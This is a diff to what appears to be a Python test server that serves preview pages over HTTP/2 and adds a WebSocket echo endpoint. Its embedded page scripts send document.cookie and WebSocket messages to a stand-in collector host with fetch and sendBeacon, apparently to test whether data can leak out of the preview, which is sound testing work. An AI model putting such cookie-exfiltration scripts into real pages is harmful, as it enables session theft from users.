@@ -12,6 +12,8 @@ import trustme
 from h2.config import H2Configuration
 from h2.connection import H2Connection
 from h2.events import DataReceived, RequestReceived, StreamEnded
+from wsproto import ConnectionType, WSConnection
+from wsproto.events import AcceptConnection, CloseConnection, TextMessage
 
 PAGE = b"""<!doctype html><title>Preview</title><h1>Preview</h1>
 <script>
@@ -19,6 +21,15 @@ PAGE = b"""<!doctype html><title>Preview</title><h1>Preview</h1>
     const body = text + ';' + document.cookie;
     fetch('https://answered.tp.example/collect', { method: 'POST', mode: 'no-cors', body });
   });
+</script>
+"""
+
+
+LIVE = b"""<!doctype html><title>Live</title>
+<script>
+  const socket = new WebSocket(`ws://${location.host}/live`);
+  socket.onopen = () => socket.send('hello');
+  socket.onmessage = ({ data }) => navigator.sendBeacon('https://answered.tp.example/collect', data);
 </script>
 """
 
@@ -35,13 +46,32 @@ class _Preview(BaseHTTPRequestHandler):
             self.send_header("Content-Length", "0")
             self.end_headers()
             return
-        body = gzip.compress(PAGE)
+        if self.path == "/live":
+            self._echo()
+            return
+        body = gzip.compress(LIVE if self.path == "/with-live" else PAGE)
         self.send_response(200)
         self.send_header("Content-Type", "text/html")
         self.send_header("Content-Encoding", "gzip")
         self.send_header("Transfer-Encoding", "chunked")
         self.end_headers()
         self.wfile.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))
+
+    def _echo(self) -> None:
+        """Speak WebSocket: say what is heard, after a word of our own, until the page has gone."""
+        conversation = WSConnection(ConnectionType.SERVER)
+        headers = [(name.encode(), value.encode()) for name, value in self.headers.items()]
+        conversation.initiate_upgrade_connection(headers, self.path)
+        self.close_connection = True
+        for _ in conversation.events():
+            self.wfile.write(conversation.send(AcceptConnection()))
+        while data := self.connection.recv(65536):
+            conversation.receive_data(data)
+            for event in conversation.events():
+                if isinstance(event, TextMessage):
+                    self.wfile.write(conversation.send(TextMessage(data=f"the preview heard {event.data}")))
+                elif isinstance(event, CloseConnection):
+                    return
 
     def do_POST(self) -> None:
         """Give back what was sent, and the cookie that came with it."""
